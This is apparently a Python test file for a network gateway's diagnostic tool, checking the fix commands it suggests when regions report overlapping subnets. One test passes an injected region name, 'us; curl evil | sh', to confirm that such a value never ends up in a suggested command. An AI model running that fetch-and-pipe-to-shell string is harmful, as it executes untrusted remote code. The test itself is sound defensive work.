"""What the doctor makes of what regions tell of themselves."""

from __future__ import annotations

from ipaddress import IPv4Network

from gateway.bus.seen import Place, Seen
from gateway.doctor.bus import judge_regions

SUBNET = IPv4Network("10.66.1.0/24")


def commands(*regions: str) -> list[str]:
    """Return what the doctor has root type, where these regions tell the same subnet. It expects eu and us."""
    places = tuple(Place(region=region, subnet4=SUBNET, subnet6=None) for region in regions)
    seen = Seen(places=places, clocks={"eu": 0.0, "us": 0.0})
    return [line for finding in judge_regions(seen, ["eu", "us"]) for line in finding.fix]


def test_subnets_that_overlap_have_a_command() -> None:
    assert commands("eu", "us") == [
        "guildgate fleet add us --again --subnet4 NETWORK --subnet6 NETWORK    and enrol it anew"
    ]


def test_no_name_that_a_region_invents_stands_in_a_command() -> None:
    assert commands("eu", "us; curl evil | sh") == []
